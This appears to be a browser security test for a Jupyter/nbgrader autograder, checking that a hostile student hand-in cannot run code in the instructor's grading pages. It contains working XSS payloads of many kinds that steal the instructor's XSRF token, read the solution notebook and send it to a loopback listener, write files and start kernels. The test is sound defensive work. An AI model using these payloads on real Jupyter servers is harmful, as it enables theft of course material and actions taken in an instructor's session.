"""A student's markup never runs in the instructor's browser session (autograder/course/page_policy.py, safe_html.py).

Student ``mallory`` hands in notebook 01 with the reference answers and, in her written answer, in an extra
Markdown cell, in the outputs of an extra code cell and in a file beside the notebook, every family of payload an
instructor's page could meet: ``<script>``, event handlers (``onerror``, ``onload``, an image's width from its
output metadata), ``<iframe srcdoc>``, CSS ``@import`` and ``<link>``, ``<object>``/``<embed>``, ``<base>``,
a meta refresh, comment and ``</textarea>`` breakouts, and outputs of every MIME type that carries markup
(text/html, isolated text/html, text/markdown, application/javascript, image/svg+xml, image/png). Each payload,
if it ran, would send a request to a listener on the loopback, read the solution notebook through the
instructor's API, write a file into the course folder and start a kernel as the instructor.

The instructor's server runs as ``make instructor-lab`` runs it. Chromium then opens, logged in as the
instructor: formgrader's manual grading page for the submission (whose grading still works: the score boxes
bind and a score saves), the submission's files through formgrader, ``files/``, ``view/`` and ``nbconvert/``.
The listener must receive nothing, no file may appear, no kernel may start. A control first serves the same
``<script>`` payload on the server's address without the course's policy (through the browser's request routing):
there it reaches the listener, sends it the solution notebook read through the instructor's API and writes its
file: the payloads and the checks are live.
"""

import http.server
import shutil
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell
from nbgrader.api import Gradebook

from autograder.course.course import Course
from autograder.course.notebooks import fill_answers, grade_id, reference_answers
from autograder.course.paths import sqlite_url
from testbed.lab import CHROMIUM_FLAGS, NBGRADER_CONFIG, JupyterLab, free_port, start_instructor_lab
from tests.browser.formgrader_page import GRADES_BOUND, FormgraderPage
from tests.browser.test_formgrader import GRADE, autograder
from tests.support.course import ThrowawayCourse

pytestmark = pytest.mark.slow

ASSIGNMENT = "01_attention"
STUDENT = "mallory"
WRITTEN = "written_sqrt_dk"  # a written answer: Markdown the student writes, shown with its score box
SOLUTION = f"solutions/{ASSIGNMENT}/{ASSIGNMENT}.ipynb"
SETTLE_SECONDS = 4.0  # after a page has loaded: time for a delayed payload (a refresh, an image's error) to fire
# Chromium's Local Network Access checks refuse a page's requests to another loopback port on their own: off here,
# so that the course's policy alone is tested, as in a browser without them (Firefox, an older Chromium).
WITHOUT_LOCAL_NETWORK_CHECKS = ["--disable-features=LocalNetworkAccessChecks,PrivateNetworkAccessSendPreflights,"
                                "BlockInsecurePrivateNetworkRequests"]


def attack(listener: str, family: str) -> str:
    """JavaScript that tells the listener it ran, steals the solution, writes a file and starts a kernel."""
    return (
        f"fetch('{listener}/{family}',{{mode:'no-cors'}});"
        f"var x=(document.cookie.match(/_xsrf=([^;]+)/)||[])[1];"
        f"fetch('/api/contents/{SOLUTION}').then(r=>r.text()).then(t=>fetch('{listener}/{family}-solution',"
        f"{{method:'POST',mode:'no-cors',body:t}}));"
        f"fetch('/api/contents/pwned-{family}.txt',{{method:'PUT',headers:{{'X-XSRFToken':x}},"
        f"body:JSON.stringify({{type:'file',format:'text',content:'{family}'}})}});"
        f"fetch('/api/kernels',{{method:'POST',headers:{{'X-XSRFToken':x}},body:'{{}}'}});"
    )


def markup_payloads(listener: str) -> dict[str, str]:
    """Markup a student can write in Markdown or an HTML output, by family."""
    return {
        "script": f"<script>{attack(listener, 'script')}</script>",
        "img-onerror": f'<img src="x-missing" onerror="{attack(listener, "img-onerror")}">',
        "svg-onload": f'<svg onload="{attack(listener, "svg-onload")}"><circle r="2"/></svg>',
        "iframe-srcdoc": f"<iframe srcdoc=\"<script>{attack(listener, 'iframe-srcdoc')}</script>\"></iframe>",
        "css-import": f"<style>@import url('{listener}/css-import');</style>",
        "link": f'<link rel="stylesheet" href="{listener}/link">',
        "object": f'<object data="{listener}/object"></object><embed src="{listener}/embed">',
        "base": f'<base href="{listener}/base/"><img src="relative.png">',
        "meta-refresh": f'<meta http-equiv="refresh" content="1;url={listener}/meta-refresh">',
        "comment-breakout": f"<!-- --><script>{attack(listener, 'comment-breakout')}</script> -->",
        "textarea-breakout": f"</textarea><script>{attack(listener, 'textarea-breakout')}</script>",
        "javascript-url": f'<a id="js-url" href="javascript:{attack(listener, "javascript-url")}">link</a>',
    }


def output_cell(listener: str) -> str:
    """A code cell whose outputs carry each MIME type's payload (it runs when the notebook is graded)."""
    html = "".join(markup_payloads(listener).values())
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{attack(listener, "output-svg")}"><circle r="2"/></svg>'
    bundles = [
        ({"text/html": html}, {}),
        ({"text/html": html}, {"text/html": {"isolated": True}}),
        ({"text/markdown": html}, {}),
        ({"application/javascript": attack(listener, "output-javascript")}, {}),
        ({"image/svg+xml": svg}, {}),
        ({"image/png": "iVBORw0KGgo="}, {"image/png": {"width": f"1 onerror={attack(listener, 'png-width')}"}}),
    ]
    lines = ["from IPython.display import display"]
    lines += [f"display({data!r}, metadata={metadata!r}, raw=True)" for data, metadata in bundles]
    return "\n".join(lines)


class Listener(http.server.ThreadingHTTPServer):
    """An HTTP server on the loopback that records every request it is sent."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        listener = self

        class Record(http.server.BaseHTTPRequestHandler):
            def do_any(self) -> None:
                listener.hits.append(f"{self.command} {self.path}")
                self.send_response(204)
                self.end_headers()

            do_GET = do_POST = do_PUT = do_OPTIONS = do_any  # http.server's names

            def log_message(self, format: str, *args: object) -> None:
                pass

        super().__init__(("127.0.0.1", free_port()), Record)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"


@pytest.fixture
def listener() -> Iterator[Listener]:
    server = Listener()
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server
    finally:
        server.shutdown()
        thread.join(timeout=10)


@pytest.fixture
def course(throwaway_course: ThrowawayCourse, listener: Listener) -> Course:
    """Notebook 01 with mallory's hostile hand-in (and a hostile HTML file beside it), graded."""
    course = throwaway_course(ASSIGNMENT, seeded=True)
    (course.root / "nbgrader_config.py").write_text(NBGRADER_CONFIG)
    source = nbformat.read(course.source_notebook(ASSIGNMENT), as_version=4)
    notebook = fill_answers(nbformat.read(course.release_notebook(ASSIGNMENT), as_version=4), reference_answers(source))
    payloads = "\n\n".join(markup_payloads(listener.url).values())
    written = next(cell for cell in notebook.cells if grade_id(cell) == WRITTEN)
    written.source += "\n\n" + payloads
    notebook.cells += [new_markdown_cell(payloads), new_code_cell(output_cell(listener.url))]
    handed_in = course.grading.submitted(STUDENT, ASSIGNMENT)
    handed_in.mkdir(parents=True)
    nbformat.write(notebook, handed_in / f"{ASSIGNMENT}.ipynb")
    (handed_in / "notes.html").write_text(payloads)
    return course


@pytest.fixture
def instructor_page(playwright_driver, chromium: str):
    """A page of a Chromium without Local Network Access checks (see WITHOUT_LOCAL_NETWORK_CHECKS)."""
    browser = playwright_driver.chromium.launch(
        executable_path=chromium, args=[*CHROMIUM_FLAGS, *WITHOUT_LOCAL_NETWORK_CHECKS], headless=True
    )
    context = browser.new_context(viewport={"width": 1400, "height": 1000}, service_workers="block")  # routes see all
    try:
        yield context.new_page()
    finally:
        browser.close()


@pytest.fixture
def instructor_lab(course: Course, chromium: str, tmp_path: Path) -> Iterator[JupyterLab]:
    autograder(course, tmp_path / "grade.log", *GRADE)
    # The course's grade keeps only the notebook; nbgrader's own autograde copies a hand-in's other files, which
    # formgrader then serves from the autograded folder: put it there too.
    notes = course.grading.submitted(STUDENT, ASSIGNMENT) / "notes.html"
    shutil.copy(notes, course.grading.path / "autograded" / STUDENT / ASSIGNMENT / notes.name)
    server = start_instructor_lab(course.root)
    try:
        yield server
    finally:
        server.stop()


def settle_and_check(page, lab: JupyterLab, listener: Listener, course: Course, kernels: int, where: str) -> None:
    """After ``SETTLE_SECONDS``: nothing reached the listener, no file was written, no kernel started."""
    page.wait_for_timeout(SETTLE_SECONDS * 1000)
    if page.locator("#js-url").count():  # the javascript: link runs only when clicked
        page.locator("#js-url").first.click(timeout=2000)
        page.wait_for_timeout(500)
    assert listener.hits == [], f"{where}: a student's payload reached the listener: {listener.hits}"
    assert not list(course.root.glob("pwned-*")), f"{where}: a student's payload wrote into the course folder"
    assert len(lab.api("kernels")) == kernels, f"{where}: a student's payload started a kernel"


def test_no_student_markup_runs_in_the_instructors_pages(
    course: Course, instructor_lab: JupyterLab, listener: Listener, instructor_page, artifacts: Path
) -> None:
    page, lab = instructor_page, instructor_lab
    formgrader = FormgraderPage(page, lab, artifacts / "instructor-pages")
    formgrader.open_lab()  # logs the instructor in: the session cookie every page below carries
    kernels = len(lab.api("kernels"))

    # The control: the same markup on the server's address, with Jupyter's policy only, runs and is seen.
    control, script = f"{lab.base_url}/control.html", markup_payloads(listener.url)["script"]
    page.route(lambda url: url.startswith(control), lambda route: route.fulfill(content_type="text/html", body=script))
    page.goto(control)
    deadline = time.monotonic() + 30
    written = course.root / "pwned-script.txt"
    while ("POST /script-solution" not in listener.hits or not written.exists()) and time.monotonic() < deadline:
        page.wait_for_timeout(200)  # not time.sleep: the browser's requests wait on the route's Python handler
    assert {"GET /script", "POST /script-solution"} <= set(listener.hits), f"control: not seen: {listener.hits}"
    assert written.exists(), "control: the payload could not write into the course folder"
    page.wait_for_timeout(1000)  # the kernel the payload asked for
    listener.hits.clear()
    page.unroute_all()
    written.unlink()
    for kernel in lab.api("kernels")[kernels:]:
        lab.api(f"kernels/{kernel['id']}", method="DELETE")
    kernels = len(lab.api("kernels"))

    with Gradebook(sqlite_url(course.grading.gradebook)) as gradebook:  # graded, not refused
        submission_id = gradebook.find_submission_notebook(ASSIGNMENT, ASSIGNMENT, STUDENT).id
    page.goto(lab.url(f"formgrader/submissions/{submission_id}"))
    settle_and_check(page, lab, listener, course, kernels, "formgrader's grading page")
    page.wait_for_function(GRADES_BOUND, timeout=120_000)  # formgrader's own scripts run under the policy
    box = page.locator(f"input.score#{WRITTEN}")
    box.scroll_into_view_if_needed()
    with page.expect_response(lambda r: r.request.method == "PUT" and "/formgrader/api/grade/" in r.url) as saved:
        box.fill("1")
        box.press("Tab")
    assert saved.value.ok and saved.value.json()["manual_score"] == 1.0, "grading no longer works on the page"
    page.screenshot(path=artifacts / "instructor-pages" / "grading-page.png", full_page=False)

    folder = f"grading/submitted/{STUDENT}/{ASSIGNMENT}"
    autograded = f"grading/autograded/{STUDENT}/{ASSIGNMENT}/{ASSIGNMENT}.ipynb"
    for where in (f"formgrader/submissions/{submission_id}/notes.html", f"files/{folder}/notes.html",
                  f"view/{folder}/notes.html", f"nbconvert/html/{autograded}?download=false"):
        response = page.goto(lab.url(where))
        assert response is not None and response.status < 400, f"{where}: HTTP {response and response.status}"
        settle_and_check(page, lab, listener, course, kernels, where)
